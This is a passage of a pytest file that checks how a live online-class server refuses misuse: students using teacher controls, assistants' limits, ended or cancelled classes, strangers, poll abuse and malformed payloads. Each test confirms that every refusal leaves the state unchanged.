"""Live classes under bad input and abuse: the real app, real ``socketio.AsyncClient`` connections, both databases.

Every refusal is an error acknowledgement (or an HTTP 4xx JSON error) with a stable code, and changes nothing: after
each one the state is read back — the ``join_class`` snapshot (a connection already in the class gets the snapshot
again), ``GET /api/classes/{id}``, the poll list, the attendance report — and compared with what it was. That nobody
was told anything is shown as in tests/test_chat.py: a later broadcast (the sentinel) is awaited first, and only then
are the queues checked, since the server delivers a connection's broadcasts in order.

Covered: teacher controls refused to students; assistants (the circle's teachers not named on the session) use them
but neither start nor end the class; ended and cancelled classes; unknown classes and strangers; poll abuse (answers
twice, to drafts and closed polls, out of range, a second open poll); malformed payloads for many events; scheduling
over HTTP (bad times, naive times, unknown fields, teachers who cannot teach, editing a live class); CSV injection in
the attendance export; removal, the lock and the lobby's deny; the grace period of a dropped connection.
"""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient

from server import keys
from server.hub.setup import SIO
from server.policy import Actor
from server.services import classes as class_service
from server.settings import Settings
from tests.conftest import Database, make_settings
from tests.helpers import Api, Person, Reply
from tests.test_chat import Conn, Hub, expect, join_http, new_circle, people

Client = TestClient[web.Request, web.Application]
GRACE = 1.5  # seconds a dropped participant keeps their seat (class_grace_seconds)
WAIT = 5.0
NO_SUCH_CLASS = 987_654
_serial = itertools.count(1)


@pytest.fixture
def settings(database: Database, tmp_path: Path) -> Settings:
    return make_settings(database, tmp_path, login_attempts_per_ip=10_000, login_attempts_per_account=10_000,
                         class_grace_seconds=GRACE)



# ---------------------------------------------------------------------------------------------------------------
# Helpers


def moment(minutes: float) -> str:
    return (datetime.now(UTC) + timedelta(minutes=minutes)).isoformat()


def class_fields(**fields: Any) -> dict[str, Any]:
    """A class that began a minute ago and lasts an hour (attendance counts from the scheduled start)."""
    return {"title": f"Class {next(_serial)}", "starts_at": moment(-1), "ends_at": moment(59), **fields}


async def schedule(api: Api, who: Person, circle: str, **fields: Any) -> dict[str, Any]:
    body: dict[str, Any] = expect(await api.call("POST", f"/api/circles/{circle}/classes", who,
                                                 class_fields(**fields)), 201)
    return body


async def get_class(api: Api, who: Person, class_id: int) -> dict[str, Any]:
    body: dict[str, Any] = expect(await api.call("GET", f"/api/classes/{class_id}", who))
    return body


async def polls(api: Api, who: Person, class_id: int) -> list[dict[str, Any]]:
    body = expect(await api.call("GET", f"/api/classes/{class_id}/polls", who))
    return list(body["polls"])


async def attendance(api: Api, who: Person, class_id: int) -> dict[str, Any]:
    body: dict[str, Any] = expect(await api.call("GET", f"/api/classes/{class_id}/attendance", who))
    return body


def http_refused(reply: Reply, status: int, code: str) -> dict[str, Any]:
    assert reply.status == status and reply.error_code == code, (reply.status, reply.body)
    error: dict[str, Any] = reply.body["error"]
    assert isinstance(error.get("message"), str), reply.body
    return error


def ref(class_id: int, **fields: Any) -> dict[str, Any]:
    return {"class_id": class_id, **fields}


async def join(conn: Conn, class_id: int) -> dict[str, Any]:
    return await conn.ok("join_class", ref(class_id))


async def snapshot(conn: Conn, class_id: int) -> dict[str, Any]:
    """The room as a connection already in the class reads it again (join_class answers with the snapshot)."""
    room: dict[str, Any] = (await join(conn, class_id))["room"]
    return room


def seated(room: dict[str, Any]) -> dict[int, dict[str, Any]]:
    return {p["user_id"]: p for p in room["participants"]}


async def chat_messages(conn: Conn, class_id: int) -> list[dict[str, Any]]:
    ack = await conn.ok("join_class", ref(class_id, last_seq=0))
    return list(ack["chat"]["messages"])


async def say(conn: Conn, class_id: int, body: str) -> dict[str, Any]:
    ack = await conn.ok("send_class_message", ref(class_id, client_id=f"class-msg-{next(_serial):06d}", body=body))
    return ack


async def sentinel(sender: Conn, class_id: int, *receivers: Conn) -> None:
    """A chat line every seated receiver must get; whatever was broadcast to them before it has arrived by then."""
    body = f"sentinel {next(_serial)}"
    await say(sender, class_id, body)
    for conn in receivers:
        await conn.until("class_message_posted", lambda m: m["body"] == body)


async def settle(sender: Conn, class_id: int, *receivers: Conn) -> None:
    """Let what was broadcast so far arrive (a sentinel), then forget it: later checks see only what follows."""
    await sentinel(sender, class_id, *receivers)
    drain(*receivers)


def drain(*conns: Conn) -> None:
    for conn in conns:
        for queue in conn.events.values():
            while not queue.empty():
                queue.get_nowait()


async def circle_sentinel(sender: Conn, circle: str, *receivers: Conn) -> None:
    """For connections in no class room: a circle chat message, as the sentinel."""
    for conn in {sender, *receivers}:
        await conn.join(circle)
    body = f"circle sentinel {next(_serial)}"
    await sender.send(circle, body)
    for conn in receivers:
        await conn.until("message_posted", lambda m: m["body"] == body)


def quiet(conns: list[Conn], *events: str) -> None:
    """None of ``events`` reached any of ``conns`` (call after a sentinel)."""
    for conn in conns:
        for event in events:
            assert conn.pending(event) == [], (conn.who.name if conn.who else None, event)


ROOM_EVENTS = ("participant_joined", "participant_left", "participants_changed", "hands_changed", "class_started",
               "class_ended", "class_locked", "called_on", "lobby_changed", "class_left", "class_admitted",
               "poll_opened", "poll_closed", "poll_results", "poll_created")


@dataclass
class Lesson:
    circle: str
    class_id: int
    teacher: Person
    t: Conn
    students: list[Person]
    s: list[Conn]
    extra: dict[str, Any] = field(default_factory=dict)


async def lesson(
    api: Api, hub: Hub, *, students: int = 2, start: bool = True, visibility: str = "public", **fields: Any
) -> Lesson:
    """A circle, its owner teaching a class, ``students`` members seated in it (started unless ``start`` is False)."""
    teacher, *learners = await people(api, "Teacher", *(f"Student {n + 1}" for n in range(students)))
    circle = await new_circle(api, teacher, visibility=visibility)
    await join_http(api, circle, *learners)
    class_id = int((await schedule(api, teacher, circle, **fields))["id"])
    t = await hub.connect(teacher)
    await join(t, class_id)
    if start:
        await t.ok("start_class", ref(class_id))
    conns, seated_conns = [], [t]
    for learner in learners:
        conn = await hub.connect(learner)
        if (await join(conn, class_id))["placement"] == "joined":
            assert (await t.next("participant_joined"))["participant"]["user_id"] == learner.id
            seated_conns.append(conn)
        conns.append(conn)
    if start and len(seated_conns) == len(conns) + 1:  # (with some in the lobby, the test reads what they caused)
        await settle(t, class_id, *seated_conns)  # tests see only what happens after the setting up
    return Lesson(circle, class_id, teacher, t, learners, conns)


# ---------------------------------------------------------------------------------------------------------------
# Teacher controls


async def test_students_are_refused_every_teacher_control(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=3, settings={"lobby": True})
    cid, t = ls.class_id, ls.t
    s1, s2, s3 = ls.s
    st1, st2, st3 = ls.students
    for student in (st1, st2):  # the third stays in the lobby
        await t.ok("admit", ref(cid, user_id=student.id))
    await s1.next("class_admitted")
    await s2.next("class_admitted")
    await s2.ok("raise_hand", ref(cid))
    await t.until("hands_changed", lambda f: f["hands"] == [st2.id])
    draft = (await t.ok("create_poll", ref(cid, question="Draft?", options=["a", "b"])))["poll"]
    live = (await t.ok("create_poll", ref(cid, question="Open?", options=["yes", "no"])))["poll"]
    await t.ok("open_poll", ref(cid, poll_id=live["id"]))
    await s1.next("poll_opened")
    await s2.next("poll_opened")

    await settle(t, cid, s1, s2, t)
    room = await snapshot(t, cid)
    assert set(seated(room)) == {ls.teacher.id, st1.id, st2.id} and room["lobby"] == [st3.id]
    assert room["hands"] == [st2.id] and room["locked"] is False
    before_polls = await polls(api, ls.teacher, cid)
    before_class = await get_class(api, ls.teacher, cid)

    attempts: list[tuple[str, dict[str, Any]]] = [
        ("start_class", ref(cid)),
        ("end_class", ref(cid)),
        ("admit", ref(cid, user_id=st3.id)),
        ("deny", ref(cid, user_id=st3.id)),
        ("remove_participant", ref(cid, user_id=st2.id)),
        ("lock_class", ref(cid, locked=True)),
        ("call_on", ref(cid, user_id=st2.id)),
        ("grant_media", ref(cid, user_id=st2.id, media="screen")),
        ("revoke_media", ref(cid, user_id=st2.id, media="camera")),
        ("mute", ref(cid, user_id=st2.id)),
        ("mute_all", ref(cid)),
        ("create_poll", ref(cid, question="Mine?", options=["x", "y"])),
        ("open_poll", ref(cid, poll_id=draft["id"])),
        ("close_poll", ref(cid, poll_id=live["id"])),
        ("lower_hand", ref(cid, user_id=st2.id)),
        ("call_on", ref(cid, user_id=st1.id)),  # themselves
        ("grant_media", ref(cid, user_id=st1.id, media="screen")),
    ]
    for event, data in attempts:
        await s1.refused(event, data, "teacher_only")
        assert await snapshot(t, cid) == room, event
    assert await polls(api, ls.teacher, cid) == before_polls
    assert await get_class(api, ls.teacher, cid) == before_class

    # Nobody heard of any of it: not the target, not the lobby, not the teacher.
    await sentinel(t, cid, s1, s2, t)
    quiet([s1, s2, t], *ROOM_EVENTS)
    quiet([s3], "class_admitted", "class_left", "class_ended")
    # Their own hand is theirs to lower.
    await s2.ok("lower_hand", ref(cid))
    assert (await t.next("hands_changed"))["hands"] == []


async def test_an_assistant_uses_teacher_controls_but_neither_starts_nor_ends(api: Api, hub: Hub) -> None:
    owner, assistant, student = await people(api, "Owner", "Assistant", "Student")
    circle = await new_circle(api, owner)
    await join_http(api, circle, assistant, student)
    expect(await api.call("PATCH", f"/api/circles/{circle}/members/{assistant.id}", owner, {"role": "teacher"}))
    cid = int((await schedule(api, owner, circle))["id"])  # the owner alone is named
    t, a, s = await hub.connect(owner), await hub.connect(assistant), await hub.connect(student)
    assert (await join(t, cid))["role"] == "teacher"
    joined = await join(a, cid)
    assert (joined["role"], joined["placement"]) == ("assistant", "joined")  # staff sit down before the start
    assert (await join(s, cid))["placement"] == "waiting_for_start"

    await a.refused("start_class", ref(cid), "teacher_only")
    assert (await snapshot(t, cid))["phase"] == "scheduled"
    assert (await get_class(api, owner, cid))["state"] == "scheduled"
    quiet([s], "class_started", "class_admitted")

    await t.ok("start_class", ref(cid))
    await s.next("class_admitted")
    await s.ok("raise_hand", ref(cid))
    await a.until("hands_changed", lambda f: f["hands"] == [student.id])

    # Every teacher control but the lifecycle works for the assistant.
    await a.ok("call_on", ref(cid, user_id=student.id))
    assert (await s.next("called_on"))["user_id"] == student.id
    await a.ok("mute", ref(cid, user_id=student.id))
    await s.until("participants_changed", lambda f: f["participants"][0]["force_muted"] is True)
    await a.ok("grant_media", ref(cid, user_id=student.id, media="screen"))
    changed = await s.until("participants_changed", lambda f: "screen" in f["participants"][0]["may_publish"])
    assert changed[-1]["participants"][0]["force_muted"] is True  # the screen does not lift the microphone's mute
    await a.ok("lock_class", ref(cid, locked=True))
    assert (await s.next("class_locked"))["locked"] is True
    poll = (await a.ok("create_poll", ref(cid, question="Q?", options=["a", "b"])))["poll"]
    await a.ok("open_poll", ref(cid, poll_id=poll["id"]))
    assert (await s.next("poll_opened"))["poll"]["id"] == poll["id"]
    await a.ok("close_poll", ref(cid, poll_id=poll["id"]))
    assert (await s.next("poll_closed"))["poll"]["state"] == "closed"
    await s.ok("raise_hand", ref(cid))
    await a.until("hands_changed", lambda f: f["hands"] == [student.id])
    await a.ok("lower_hand", ref(cid, user_id=student.id))
    assert (await s.until("hands_changed", lambda f: f["hands"] == []))[-1]["hands"] == []
    await a.ok("revoke_media", ref(cid, user_id=student.id, media="camera"))
    await s.until("participants_changed", lambda f: f["participants"][0]["may_publish"] == ["screen"])
    muted = await a.ok("mute_all", ref(cid))
    assert {p["user_id"]: p["force_muted"] for p in muted["room"]["participants"]} == {
        owner.id: False, assistant.id: False, student.id: True}
    # A teacher cannot be removed, not even by an assistant.
    await a.refused("remove_participant", ref(cid, user_id=owner.id), "teacher_protected")

    room = await snapshot(t, cid)
    await a.refused("end_class", ref(cid), "teacher_only")
    assert await snapshot(t, cid) == room and room["phase"] == "live"
    assert (await get_class(api, owner, cid))["state"] == "live"
    await sentinel(t, cid, s, a)
    quiet([s, a], "class_ended", "class_left")

    await t.ok("end_class", ref(cid))
    assert (await s.next("class_left"))["reason"] == "ended"
    assert (await get_class(api, owner, cid))["state"] == "ended"


# ---------------------------------------------------------------------------------------------------------------
# Ended, cancelled, unknown and foreign classes


async def test_an_ended_class_refuses_everything_and_its_record_stays(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1)
    cid, t, (s,), (student,) = ls.class_id, ls.t, ls.s, ls.students
    draft = (await t.ok("create_poll", ref(cid, question="Never opened?", options=["a", "b"])))["poll"]
    poll = (await t.ok("create_poll", ref(cid, question="Asked?", options=["a", "b"])))["poll"]
    await t.ok("open_poll", ref(cid, poll_id=poll["id"]))
    await s.next("poll_opened")
    await s.ok("answer_poll", ref(cid, poll_id=poll["id"], choice=[1]))
    await say(s, cid, "before the end")
    ended = await t.ok("end_class", ref(cid))
    assert ended["counts"]["absent"] == 0
    for conn in (s, t):
        assert await conn.next("class_left") == {"class_id": cid, "reason": "ended"}
    drain(s, t)  # what was said in the class came before
    before = (await get_class(api, ls.teacher, cid), await polls(api, ls.teacher, cid),
              await attendance(api, ls.teacher, cid), await polls(api, student, cid))
    assert before[0]["state"] == "ended"
    assert [(p["id"], p["state"], p["results"]["answered"]) for p in before[1]] == [
        (draft["id"], "draft", 0), (poll["id"], "closed", 1)]

    fresh = await hub.connect(student)
    for conn in (s, t, fresh):
        await conn.refused("join_class", ref(cid), "class_ended")
        await conn.refused("join_class", ref(cid, last_seq=0), "class_ended")
    # The connections were taken out of the room: nothing is theirs to do in it any more.
    await s.refused("send_class_message", ref(cid, client_id="after-the-end-1", body="hello?"), "not_joined")
    await s.refused("raise_hand", ref(cid), "not_joined")
    await s.refused("react", ref(cid, kind="clap"), "not_joined")
    await s.refused("answer_poll", ref(cid, poll_id=poll["id"], choice=[0]), "not_joined")
    await t.refused("open_poll", ref(cid, poll_id=draft["id"]), "not_joined")
    await t.refused("create_poll", ref(cid, question="Late?", options=["a", "b"]), "not_joined")
    await t.refused("mute_all", ref(cid), "not_joined")
    await t.refused("start_class", ref(cid), "class_ended")
    await t.refused("end_class", ref(cid), "class_ended")
    http_refused(await api.call("PATCH", f"/api/classes/{cid}", ls.teacher, {"title": "Again"}), 409,
                 "not_scheduled")
    http_refused(await api.call("POST", f"/api/classes/{cid}/cancel", ls.teacher), 409, "not_scheduled")
    http_refused(await api.call("POST", f"/api/classes/{cid}/polls", ls.teacher,
                                {"question": "After?", "options": ["a", "b"]}), 409, "class_ended")

    assert (await get_class(api, ls.teacher, cid), await polls(api, ls.teacher, cid),
            await attendance(api, ls.teacher, cid), await polls(api, student, cid)) == before
    await circle_sentinel(t, ls.circle, s, t, fresh)
    quiet([s, t, fresh], "class_message_posted", "hands_changed", "poll_opened", "class_started", "reactions")


async def test_a_cancelled_class_cannot_be_started_joined_or_changed(api: Api, hub: Hub) -> None:
    owner, student = await people(api, "Owner", "Student")
    circle = await new_circle(api, owner)
    await join_http(api, circle, student)
    cid = int((await schedule(api, owner, circle))["id"])
    t, s = await hub.connect(owner), await hub.connect(student)
    assert (await join(s, cid))["placement"] == "waiting_for_start"
    http_refused(await api.call("POST", f"/api/classes/{cid}/cancel", student), 403, "forbidden")
    assert (await get_class(api, owner, cid))["state"] == "scheduled"
    assert expect(await api.call("POST", f"/api/classes/{cid}/cancel", owner))["state"] == "cancelled"
    before = await get_class(api, owner, cid)

    await t.refused("start_class", ref(cid), "class_cancelled")
    await t.refused("join_class", ref(cid), "class_cancelled")
    await s.refused("join_class", ref(cid), "class_cancelled")
    await (await hub.connect(student)).refused("join_class", ref(cid), "class_cancelled")
    await t.refused("end_class", ref(cid), "class_cancelled")
    http_refused(await api.call("POST", f"/api/classes/{cid}/cancel", owner), 409, "not_scheduled")
    http_refused(await api.call("PATCH", f"/api/classes/{cid}", owner, {"title": "Back on"}), 409, "not_scheduled")
    http_refused(await api.call("POST", f"/api/classes/{cid}/polls", owner,
                                {"question": "Q?", "options": ["a", "b"]}), 409, "class_cancelled")
    assert await get_class(api, owner, cid) == before
    assert await polls(api, owner, cid) == []
    report = await attendance(api, owner, cid)
    assert [line["status"] for line in report["students"]] == ["absent"]
    quiet([s], "class_started", "class_admitted")


async def test_unknown_classes_and_strangers(api: Api, hub: Hub) -> None:
    owner, member, eve = await people(api, "Owner", "Member", "Eve")
    public = await new_circle(api, owner, visibility="public")
    private = await new_circle(api, owner, visibility="private")
    await join_http(api, public, member)
    open_class = int((await schedule(api, owner, public))["id"])
    hidden = int((await schedule(api, owner, private))["id"])
    t, m, e = await hub.connect(owner), await hub.connect(member), await hub.connect(eve)
    for cid in (open_class, hidden):
        await join(t, cid)
        await t.ok("start_class", ref(cid))
    await join(m, open_class)
    await t.next("participant_joined")
    await settle(t, open_class, m, t)
    rooms = {cid: await snapshot(t, cid) for cid in (open_class, hidden)}

    for cid, code, status in ((NO_SUCH_CLASS, "not_found", 404), (hidden, "not_found", 404),
                              (open_class, "not_a_member", 403)):
        for conn in (e,):
            await conn.refused("join_class", ref(cid), code)
            await conn.refused("start_class", ref(cid), code)
            await conn.refused("end_class", ref(cid), code)
            await conn.refused("raise_hand", ref(cid), "not_joined")
            await conn.refused("send_class_message", ref(cid, client_id="stranger-0001", body="hi"), "not_joined")
            await conn.refused("leave_class", ref(cid), "not_joined")
        for path in (f"/api/classes/{cid}", f"/api/classes/{cid}/polls", f"/api/classes/{cid}/attendance",
                     f"/api/classes/{cid}/attendance.csv"):
            http_refused(await api.call("GET", path, eve), status, code)
        http_refused(await api.call("PATCH", f"/api/classes/{cid}", eve, {"title": "Mine"}), status, code)
        http_refused(await api.call("POST", f"/api/classes/{cid}/cancel", eve), status, code)
    # The member of the public circle may look, but not at the register or at another circle's class.
    http_refused(await api.call("GET", f"/api/classes/{open_class}/attendance", member), 403, "forbidden")
    http_refused(await api.call("GET", f"/api/classes/{hidden}", member), 404, "not_found")
    await m.refused("join_class", ref(hidden), "not_found")
    await m.refused("join_class", ref(NO_SUCH_CLASS), "not_found")

    for cid, room in rooms.items():
        assert await snapshot(t, cid) == room
        assert eve.id not in (set(seated(room)) | set(room["lobby"]) | set(room["waiting"]))
    await sentinel(t, open_class, m, t)
    quiet([m, t], "participant_joined", "lobby_changed")


async def test_a_teacher_may_start_and_end_a_class_without_joining_its_room_first(api: Api, hub: Hub) -> None:
    owner = await api.register("Owner")
    circle = await new_circle(api, owner)
    cid = int((await schedule(api, owner, circle))["id"])
    t = await hub.connect(owner)
    started = await t.ok("start_class", ref(cid))
    assert started["room"]["phase"] == "live"
    assert (await get_class(api, owner, cid))["state"] == "live"
    await t.ok("end_class", ref(cid))
    assert (await get_class(api, owner, cid))["state"] == "ended"


async def test_a_class_ends_even_when_the_state_store_lost_its_room(api: Api, hub: Hub, client: Client) -> None:
    """Redis restarted, or the room's key expired: the database still knows the class is live."""
    ls = await lesson(api, hub, students=1)
    store = client.app[SIO].namespace_handlers["/"].parts.rooms
    await store.discard(str(ls.class_id))
    ended = await ls.t.ok("end_class", ref(ls.class_id))
    assert isinstance(ended["recap_post_id"], int)
    assert await ls.s[0].next("class_left") == {"class_id": ls.class_id, "reason": "ended"}
    assert (await get_class(api, ls.teacher, ls.class_id))["state"] == "ended"
    await ls.s[0].refused("join_class", ref(ls.class_id), "class_ended")


# ---------------------------------------------------------------------------------------------------------------
# Polls


def poll_state(listed: list[dict[str, Any]]) -> list[tuple[int, str, list[int] | None, int | None]]:
    return [(p["id"], p["state"], p["results"]["counts"] if p["results"] else None,
             p["results"]["answered"] if p["results"] else None) for p in listed]


async def test_poll_abuse_is_refused_and_counts_stay_true(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=2)
    cid, t, (s1, s2), (st1, st2) = ls.class_id, ls.t, ls.s, ls.students
    s2b = await hub.connect(st2)  # a second device of the second student
    await join(s2b, cid)
    other = await schedule(api, ls.teacher, ls.circle)  # another class of the same circle
    first = (await t.ok("create_poll", ref(cid, question="Which?", options=["a", "b", "c"])))["poll"]
    second = (await t.ok("create_poll", ref(cid, question="Quiz", options=["x", "y"], correct=[1])))["poll"]
    assert (first["state"], second["state"]) == ("draft", "draft")

    # Answers to a draft: refused, and students do not even see it listed.
    await s1.refused("answer_poll", ref(cid, poll_id=first["id"], choice=[0]), "poll_not_open")
    assert await polls(api, st1, cid) == []
    await t.ok("open_poll", ref(cid, poll_id=first["id"]))
    await s1.next("poll_opened")
    await t.refused("open_poll", ref(cid, poll_id=second["id"]), "poll_already_open")
    await t.refused("open_poll", ref(cid, poll_id=first["id"]), "poll_already_open")
    await t.refused("open_poll", ref(cid, poll_id=987_654), "no_such_poll")
    await t.refused("close_poll", ref(cid, poll_id=second["id"]), "poll_not_open")  # a draft
    await t.refused("answer_poll", ref(cid, poll_id=first["id"], choice=[0]), "not_a_student")

    mine = (await s1.ok("answer_poll", ref(cid, poll_id=first["id"], choice=[2])))["poll"]
    assert mine["my_answer"] == [2] and mine["results"] is None  # students see results once it closes
    results = await t.until("poll_results", lambda f: f["poll"]["results"]["answered"] == 1)
    assert results[-1]["poll"]["results"]["counts"] == [0, 0, 1]
    expected = [(first["id"], "open", [0, 0, 1], 1), (second["id"], "draft", [0, 0], 0)]
    assert poll_state(await polls(api, ls.teacher, cid)) == expected

    refusals: list[tuple[Conn, dict[str, Any], str]] = [
        (s1, ref(cid, poll_id=first["id"], choice=[2]), "already_answered"),  # the same answer again
        (s1, ref(cid, poll_id=first["id"], choice=[0]), "already_answered"),  # a change of mind
        (s2, ref(cid, poll_id=first["id"], choice=[3]), "poll_choice"),  # beyond the options
        (s2, ref(cid, poll_id=first["id"], choice=[9]), "poll_choice"),
        (s2, ref(cid, poll_id=first["id"], choice=[10]), "invalid_input"),  # beyond any poll's options
        (s2, ref(cid, poll_id=first["id"], choice=[-1]), "invalid_input"),
        (s2, ref(cid, poll_id=first["id"], choice=[]), "invalid_input"),
        (s2, ref(cid, poll_id=first["id"], choice=[0, 1]), "poll_choice"),  # single choice
        (s2, ref(cid, poll_id=first["id"], choice=[1, 1]), "poll_choice"),
        (s2, ref(cid, poll_id=first["id"], choice=0), "invalid_input"),
        (s2, ref(cid, poll_id=first["id"], choice=["0"]), "invalid_input"),
        (s2, ref(cid, poll_id=first["id"], choice=[0.0]), "invalid_input"),
        (s2, ref(cid, poll_id=first["id"], choice=[True]), "invalid_input"),
        (s2, ref(cid, poll_id=first["id"]), "invalid_input"),
        (s2, ref(cid, poll_id=second["id"], choice=[0]), "poll_not_open"),  # the draft
        (s2, ref(cid, poll_id=987_654, choice=[0]), "no_such_poll"),
    ]
    for conn, data, code in refusals:
        await conn.refused("answer_poll", data, code)
        assert poll_state(await polls(api, ls.teacher, cid)) == expected, data
    # A poll of another class is not reachable through this one.
    other_poll = expect(await api.call("POST", f"/api/classes/{other['id']}/polls", ls.teacher,
                                       {"question": "Elsewhere?", "options": ["a", "b"]}), 201)
    await s2.refused("answer_poll", ref(cid, poll_id=other_poll["id"], choice=[0]), "no_such_poll")
    await t.refused("open_poll", ref(cid, poll_id=other_poll["id"]), "no_such_poll")

    # Two devices answering at once: one answer is counted.
    acks = await asyncio.gather(s2.call("answer_poll", ref(cid, poll_id=first["id"], choice=[0])),
                                s2b.call("answer_poll", ref(cid, poll_id=first["id"], choice=[1])))
    outcomes = sorted((a.get("ok"), a.get("error", {}).get("code")) for a in acks)
    assert outcomes == [(False, "already_answered"), (True, None)], acks
    winner = next(a for a in acks if a["ok"])["poll"]["my_answer"]
    counts = [0, 0, 1]
    counts[winner[0]] += 1
    expected = [(first["id"], "open", counts, 2), (second["id"], "draft", [0, 0], 0)]
    assert poll_state(await polls(api, ls.teacher, cid)) == expected

    closed = (await t.ok("close_poll", ref(cid, poll_id=first["id"])))["poll"]
    assert closed["results"]["answered"] == 2
    for conn in (s1, s2):
        assert (await conn.next("poll_closed"))["poll"]["results"]["counts"] == counts
    expected = [(first["id"], "closed", counts, 2), (second["id"], "draft", [0, 0], 0)]
    await s1.refused("answer_poll", ref(cid, poll_id=first["id"], choice=[1]), "poll_not_open")
    await s2b.refused("answer_poll", ref(cid, poll_id=first["id"], choice=[1]), "poll_not_open")
    await t.refused("close_poll", ref(cid, poll_id=first["id"]), "poll_not_open")
    await t.refused("open_poll", ref(cid, poll_id=first["id"]), "poll_not_draft")  # no reopening
    assert poll_state(await polls(api, ls.teacher, cid)) == expected
    # Students now see the closed poll with its results, and only it.
    assert poll_state(await polls(api, st1, cid)) == expected[:1]

    # The quiz opens now that nothing else is; someone who joins late cannot answer the closed one either.
    await t.ok("open_poll", ref(cid, poll_id=second["id"]))
    late_person = await api.register("Late")
    await join_http(api, ls.circle, late_person)
    late = await hub.connect(late_person)
    joined = await join(late, cid)
    assert joined["poll"]["id"] == second["id"] and joined["poll"]["correct"] is None
    await late.refused("answer_poll", ref(cid, poll_id=first["id"], choice=[0]), "poll_not_open")
    await settle(t, cid, s1, s2, late, t)
    quiet([s1, s2, late], "poll_results", "poll_created")  # the tallies are for the teachers


async def test_bad_polls_are_not_created(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=1)
    cid, t, (s,) = ls.class_id, ls.t, ls.s
    good = ref(cid, question="Fine?", options=["a", "b"])
    cases: list[tuple[dict[str, Any], str]] = [
        ({**good, "options": ["only one"]}, "invalid_input"),
        ({**good, "options": []}, "invalid_input"),
        ({**good, "options": [f"o{n}" for n in range(11)]}, "invalid_input"),
        ({**good, "options": ["same", "same"]}, "poll_options"),
        ({**good, "options": ["same", " same "]}, "poll_options"),  # the same once trimmed
        ({**good, "options": ["a", ""]}, "invalid_input"),
        ({**good, "options": ["a", "b\x00"]}, "invalid_input"),
        ({**good, "options": ["a", "x" * 201]}, "invalid_input"),
        ({**good, "question": ""}, "invalid_input"),
        ({**good, "question": "   "}, "invalid_input"),
        ({**good, "question": "q" * 501}, "invalid_input"),
        ({**good, "correct": [2]}, "poll_correct"),
        ({**good, "correct": []}, "poll_correct"),
        ({**good, "correct": [0, 1]}, "poll_correct"),  # single choice, two right answers
        ({**good, "correct": [0, 0]}, "poll_correct"),
        ({**good, "multiple": True, "correct": [0, 0]}, "poll_correct"),
        ({**good, "correct": [10]}, "invalid_input"),
        ({**good, "correct": 0}, "invalid_input"),
        ({**good, "multiple": "yes"}, "invalid_input"),
        ({**good, "state": "open"}, "invalid_input"),
        ({**good, "results": {"counts": [9, 9]}}, "invalid_input"),
    ]
    for data, code in cases:
        await t.refused("create_poll", data, code)
        reply = await api.call("POST", f"/api/classes/{cid}/polls", ls.teacher,
                               {k: v for k, v in data.items() if k != "class_id"})
        assert reply.status == 422 and reply.error_code == code, (data, reply.body)
    assert await polls(api, ls.teacher, cid) == []
    await sentinel(t, cid, s)
    quiet([s, t], "poll_created", "poll_opened")


# ---------------------------------------------------------------------------------------------------------------
# Malformed payloads


async def test_malformed_payloads_are_refused_and_change_nothing(api: Api, hub: Hub) -> None:
    ls = await lesson(api, hub, students=2)
    cid, t, (s1, s2), (st1, st2) = ls.class_id, ls.t, ls.s, ls.students
    poll = (await t.ok("create_poll", ref(cid, question="Q?", options=["a", "b"])))["poll"]
    await t.ok("open_poll", ref(cid, poll_id=poll["id"]))
    await s2.ok("raise_hand", ref(cid))
    await settle(t, cid, s1, s2, t)
    room = await snapshot(t, cid)
    before_polls = poll_state(await polls(api, ls.teacher, cid))
    before_chat = await chat_messages(t, cid)  # the settling sentinel
    msg = {"class_id": cid, "client_id": "client-0000001", "body": "hello"}
    huge = "x" * 20_000  # far beyond every field's limit, within the socket message limit
    pid = poll["id"]

    teacher_cases: list[tuple[str, Any, str]] = [
        # not an object
        ("start_class", str(cid), "malformed_payload"),
        ("end_class", [cid], "malformed_payload"),
        ("call_on", None, "malformed_payload"),
        ("mute_all", cid, "malformed_payload"),
        ("lock_class", True, "malformed_payload"),
        ("create_poll", ["Q?", ["a", "b"]], "malformed_payload"),
        ("close_poll", "1", "malformed_payload"),
        # binary attachments
        ("mute", {"class_id": cid, "user_id": b"\x01"}, "malformed_payload"),
        ("create_poll", ref(cid, question=b"Q?", options=["a", "b"]), "malformed_payload"),
        ("grant_media", ref(cid, user_id=st1.id, media=b"screen"), "malformed_payload"),
        # missing fields
        ("call_on", ref(cid), "invalid_input"),
        ("grant_media", ref(cid, user_id=st1.id), "invalid_input"),
        ("lock_class", ref(cid), "invalid_input"),
        ("close_poll", ref(cid), "invalid_input"),
        ("create_poll", ref(cid, question="Q?"), "invalid_input"),
        ("admit", {"user_id": st1.id}, "invalid_input"),
        ("end_class", {}, "invalid_input"),
        # wrong types
        ("end_class", {"class_id": str(cid)}, "invalid_input"),
        ("end_class", {"class_id": float(cid)}, "invalid_input"),
        ("end_class", {"class_id": True}, "invalid_input"),
        ("end_class", {"class_id": 0}, "invalid_input"),
        ("end_class", {"class_id": 2**31}, "invalid_input"),
        ("end_class", {"class_id": None}, "invalid_input"),
        ("lock_class", ref(cid, locked="yes"), "invalid_input"),
        ("lock_class", ref(cid, locked=1), "invalid_input"),
        ("mute", ref(cid, user_id=str(st1.id)), "invalid_input"),
        ("remove_participant", ref(cid, user_id=[st1.id]), "invalid_input"),
        ("grant_media", ref(cid, user_id=st1.id, media="telepathy"), "invalid_input"),
        ("grant_media", ref(cid, user_id=st1.id, media="SCREEN"), "invalid_input"),
        ("revoke_media", ref(cid, user_id=st1.id, media=["camera"]), "invalid_input"),
        ("close_poll", ref(cid, poll_id=str(pid)), "invalid_input"),
        ("create_poll", ref(cid, question="Q?", options="a,b"), "invalid_input"),
        ("create_poll", ref(cid, question=["Q?"], options=["a", "b"]), "invalid_input"),
        # extra fields
        ("end_class", ref(cid, force=True), "invalid_input"),
        ("mute_all", ref(cid, except_=[st1.id]), "invalid_input"),
        ("call_on", ref(cid, user_id=st1.id, media="screen"), "invalid_input"),
        ("lock_class", ref(cid, locked=True, until="tomorrow"), "invalid_input"),
        ("close_poll", ref(cid, poll_id=pid, results=[5, 5]), "invalid_input"),
        # huge strings
        ("create_poll", ref(cid, question=huge, options=["a", "b"]), "invalid_input"),
